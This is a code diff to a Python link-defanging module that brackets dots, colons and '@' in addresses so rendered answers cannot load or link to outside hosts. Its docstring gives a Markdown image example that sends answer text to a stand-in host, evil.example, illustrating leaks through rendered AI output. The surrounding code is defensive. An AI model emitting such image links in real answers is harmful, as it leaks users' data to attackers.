@@ -4,8 +4,8 @@ A page that shows an answer may load `![](https://evil.example/?q=what+the+evide
 CVE-2025-32711), and a reader may click. What is a link is decided by whoever renders: Markdown in its dialects, raw
 HTML, and libraries that make links of bare addresses. So nothing is parsed here; what all of them need to see a link
 is taken apart, with a few characters more in the text and none less: `] (`, `] :`, `! [`, `< img`, `https[:]//`,
-`evil[.]example/x`. Code is not spared: pages draw Mermaid, SVG and HTML from code blocks, and load what those name
-(CVE-2025-54132).
+`evil[.]example/x`, `me[@]evil.example`. A registered name alone, such as README.md, stays: nobody can write data into
+it. Code is not spared: pages draw Mermaid, SVG and HTML from code blocks, and load what those name (CVE-2025-54132).
 """
 
 import re
@@ -19,7 +19,7 @@ LinkPolicy = Literal["allow", "evidence", "none"]
 MAX_BEHIND = 300  # characters of a word that has left in part and goes on: more than a host name has
 
 # Nothing is taken apart before the first of these in a word, so what stands before it need not wait.
-_STARTS = re.compile(r"[.:<\[\]!&\\]")
+_STARTS = re.compile(r"[.:@<\[\]!&\\]")
 _WORD = re.compile(r"\S+")
 
 
@@ -187,7 +187,7 @@ def _changes(word: str, code: bool) -> Iterator[_Change]:
         start, end = found.span()
         match found.lastgroup:
             case "colon":
-                yield _Change(start, end, "[:]")
+                yield _apart(word, start)
             case "entity":
                 if not _STRUCTURAL.isdisjoint(unescape(found[0])):
                     yield _Change(start, start + 1, "& ")
@@ -198,11 +198,23 @@ def _changes(word: str, code: bool) -> Iterator[_Change]:
     if not code:
         for found in _NUMBERED.finditer(word):
             yield _Change(found.start(), found.end(), "" if found[0] == "[" else " ")
+        for at in _AT.finditer(word):
+            yield _apart(word, at.start())
         if _is_address(word):
-            yield from (_Change(dot.start(), dot.end(), "[.]") for dot in _DOT.finditer(word))
+            for dot in _DOT.finditer(word):
+                yield _apart(word, dot.start())
 
 
-_DOT = re.compile(r"(?<=[^\W_])\.(?=[^\W_])|(?<=\\)\.(?=[^\W_])")
+def _apart(word: str, at: int) -> _Change:
+    """The character there in brackets, as those do who write of addresses without meaning to link them."""
+    return _Change(at, at + 1, f"[{word[at]}]" if word[at + 1 : at + 2] not in _OPENS_TARGET else f"{word[at]} ")
+
+
+_OPENS_TARGET = frozenset(["(", "[", ":", ""])  # would make a link of brackets before it; or may yet follow
+# Nearly any character is part of a name for linkify-it: soft hyphens, backquotes, zero-width spaces
+_AT = re.compile(r"(?<=[\w.+\-;:&=$,])@(?=\S)")
+_DOT = re.compile(r"(?<=\S)\.(?=\S)")
+_INNER_DOT = re.compile(r"(?<=[^\s.])\.(?=[^\s.])")
 # The ends of names that linkify-it, which most pages use, makes links of; and a few that others do
 _ENDS = (
     "a[cdefgilmnoqrtuwxz]|b[abdefghijmnorstvwyz]|c[acdfghiklmnoruvwxyz]|d[ejkmoz]|e[cegrstu]|f[ijkmor]|"
@@ -212,20 +224,19 @@ _ENDS = (
     "shop|рф|app|dev|cloud|online|site|xyz|top|club|store|tech|live|space|website|link|click|icu|page|example|test|"
     "internal|local|localhost|invalid"
 )
-_HOST = re.compile(rf"(?:[^\W_](?:[\w\-]{{0,62}}[^\W_])?\\?\.){{1,10}}(?:{_ENDS})(?![\w\-])", re.IGNORECASE)
-_WWW = re.compile(r"www\\?\.(?=[^\W_])", re.IGNORECASE)
+_NAME_ENDS = re.compile(rf"\.(?:{_ENDS})(?![A-Za-z0-9_\-])", re.IGNORECASE)
+_MEANT = re.compile(r"[/\\][/\\][^/]*\.|www\\?\.\S", re.IGNORECASE)
+_GOES_ON = frozenset("/?#:\\")
 
 
 def _is_address(word: str) -> bool:
     """Whether pages make a link of it that can say more than a registered name: a path, a question, a subdomain."""
     if "." not in word:
         return False
-    if "://" in word or _WWW.search(word):
+    if _MEANT.search(word):
         return True
-    for host in _HOST.finditer(word):
-        if host[0].count(".") > 1 or word[host.end() : host.end() + 1] in _GOES_ON or "@" in word[: host.start()]:
-            return True
-    return False
-
-
-_GOES_ON = frozenset("/?#:\\")
+    first = _INNER_DOT.search(word)
+    return first is not None and any(
+        found.start() > first.start() or word[found.end() : found.end() + 1] in _GOES_ON
+        for found in _NAME_ENDS.finditer(word, first.start())
+    )
